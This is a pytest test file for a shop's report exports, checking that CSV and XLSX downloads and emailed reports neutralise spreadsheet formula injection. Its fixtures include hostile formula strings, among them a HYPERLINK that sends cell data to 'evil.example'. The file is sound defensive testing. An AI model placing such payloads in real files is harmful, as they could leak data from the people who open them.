"""Report downloads and emailed CSVs never carry a live spreadsheet formula.

Search terms (typed by anyone), product titles and customer emails end up in report
tables; a cell starting with = + - @, a tab or a carriage return would run as a formula
when a merchandiser opens the file. Such text is written with a leading apostrophe, and
XLSX text cells are strings, while numbers, money and dates stay numbers and dates.
"""
import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core import mail
from openpyxl import load_workbook
from oscar.core.loading import get_model

from reports import exports
from reports.builders.result import col, document, figure, table
from reports.models import ReportRun, ReportSubscription
from reports.periods import Period, shop_today, shop_tz
from reports.runs import execute
from reports.tasks import send_scheduled_reports
from tests.factories import make_product, record_order

pytestmark = pytest.mark.django_db
SearchQuery = get_model("search", "SearchQuery")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet may run as a formula

HOSTILE_TERMS = ['=hyperlink("http://x","y")', "+1+1", "-2+3", "@sum(a1)", "-5 off"]
HOSTILE_TEXT = ['=HYPERLINK("http://x","y")', "+1+1", "-2+3", "@SUM(A1)", "\tfoo", "\rbar", "-5 off",
                "=1+1\t", "\t=1+1"]


def customers_run_with_searches(terms):
    today = shop_today()
    when = dt.datetime.combine(today, dt.time(12), tzinfo=shop_tz())
    for text in terms:
        query = SearchQuery.objects.create(query=text, normalized=SearchQuery.normalize(text), results_count=0)
        SearchQuery.objects.filter(pk=query.pk).update(created_at=when)
    run = ReportRun.objects.create(kind="customers", date_from=today, date_to=today)
    assert execute(run.pk) == ReportRun.Status.DONE, ReportRun.objects.get(pk=run.pk).error
    run.refresh_from_db()
    return run


def hand_built_result():
    """A result with hostile text next to negative numbers, money, percentages and dates."""
    day = dt.date(2026, 1, 10)
    columns = [col("term", "Search term"), col("searches", "Searches", "int"), col("refunds", "Refunds", "money"),
               col("change", "Change", "percent"), col("day", "First seen", "date")]
    rows = [[text, -3, "-5.00", "-12.5", "2026-01-10"] for text in HOSTILE_TEXT]
    return document("Searches", Period(day, day),
                    [figure("net", "Net revenue", "money", "-5.00"), figure("who", "Top searcher", "text", "=1+1")],
                    [table("terms", "=Terms", columns, rows)])


def csv_lines(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def assert_no_formulas(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), (sheet.title, cell.coordinate)


def test_hostile_search_terms_come_out_of_the_csv_as_quoted_text(django_app, merchandiser):
    run = customers_run_with_searches(HOSTILE_TERMS)
    django_app.set_user(merchandiser)

    response = django_app.get(f"/shop/dashboard/insights/runs/{run.pk}/report.csv")

    lines = csv_lines(response.body)
    top = lines.index(["Top search terms"])
    terms = {line[0]: line[1:] for line in lines[top + 2: top + 2 + len(HOSTILE_TERMS)]}
    assert terms == {f"'{term}": ["1", "1"] for term in HOSTILE_TERMS}
    for line in lines:
        for value in line:
            assert not value.startswith(FORMULA_STARTS), line


def test_hostile_search_terms_come_out_of_the_xlsx_as_text_never_formulas(django_app, merchandiser):
    run = customers_run_with_searches(HOSTILE_TERMS)
    django_app.set_user(merchandiser)

    book = load_workbook(io.BytesIO(django_app.get(f"/shop/dashboard/insights/runs/{run.pk}/report.xlsx").body))

    assert_no_formulas(book)
    rows = list(book["Top search terms"].iter_rows(min_row=2, values_only=True))
    assert sorted(rows) == sorted((f"'{term}", 1, 1) for term in HOSTILE_TERMS)
    cells = [row[0] for row in book["Top search terms"].iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}


def test_every_text_cell_of_the_csv_is_neutralised_and_numbers_stay_as_they_are():
    lines = csv_lines(exports.to_csv(hand_built_result()))

    assert ["Net revenue", "-5.00"] in lines  # a negative amount is still an amount
    assert ["Top searcher", "'=1+1"] in lines
    assert ["'=Terms"] in lines
    header = lines.index(["Search term", "Searches", "Refunds", "Change", "First seen"])
    assert lines[header + 1: header + 1 + len(HOSTILE_TEXT)] == [
        [f"'{text}", "-3", "-5.00", "-12.5", "2026-01-10"] for text in HOSTILE_TEXT]


def test_every_text_cell_of_the_xlsx_is_a_string_and_numbers_stay_numbers():
    book = load_workbook(io.BytesIO(exports.to_xlsx(hand_built_result())))

    assert_no_formulas(book)
    summary = list(book["Summary"].iter_rows(min_row=2, values_only=True))
    assert summary == [("Net revenue", -5), ("Top searcher", "'=1+1")]
    sheet = book["=Terms"]
    assert [c.value for c in sheet[1]] == ["Search term", "Searches", "Refunds", "Change", "First seen"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    # XML reads a carriage return back as a line feed; what matters is the apostrophe in front.
    assert rows == [(f"'{text}".replace("\r", "\n"), -3, -5, -12.5, dt.datetime(2026, 1, 10))
                    for text in HOSTILE_TEXT]
    assert sheet["C2"].data_type == "n" and sheet["C2"].number_format == "#,##0.00"
    assert Decimal(str(sheet["D2"].value)) == Decimal("-12.5")


def test_the_emailed_report_csv_carries_no_formula_from_a_product_title(
        merchandiser, category, django_capture_on_commit_callbacks):
    ReportSubscription.objects.create(user=merchandiser, daily=True)
    hostile = make_product('=HYPERLINK("http://evil.example/?"&A1,"Open")', "6.50", stock=30, category=category)
    yesterday = shop_today() - dt.timedelta(days=1)
    record_order("Y1", dt.datetime.combine(yesterday, dt.time(12), tzinfo=shop_tz()), [(hostile, 2, "13.00")],
                 guest="guest@example.com")

    with django_capture_on_commit_callbacks(execute=True):
        assert send_scheduled_reports.delay("daily").get() == 1

    attachment = mail.outbox[0].attachments[0][1]
    lines = csv_lines(attachment if isinstance(attachment, bytes) else attachment.encode())
    assert ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "1", "2", "13.00"] in lines
    assert ["Revenue", "13.00", "0.00"] in lines
    for line in lines:
        for value in line:
            assert not value.startswith(FORMULA_STARTS), line


def test_a_search_term_with_a_control_character_still_downloads_as_xlsx(django_app, merchandiser):
    run = customers_run_with_searches(["olive\x01oil", "=cmd\x1f"])
    django_app.set_user(merchandiser)

    response = django_app.get(f"/shop/dashboard/insights/runs/{run.pk}/report.xlsx")

    book = load_workbook(io.BytesIO(response.body))
    terms = {row[0] for row in book["Top search terms"].iter_rows(min_row=2, values_only=True)}
    assert terms == {"oliveoil", "'=cmd"}
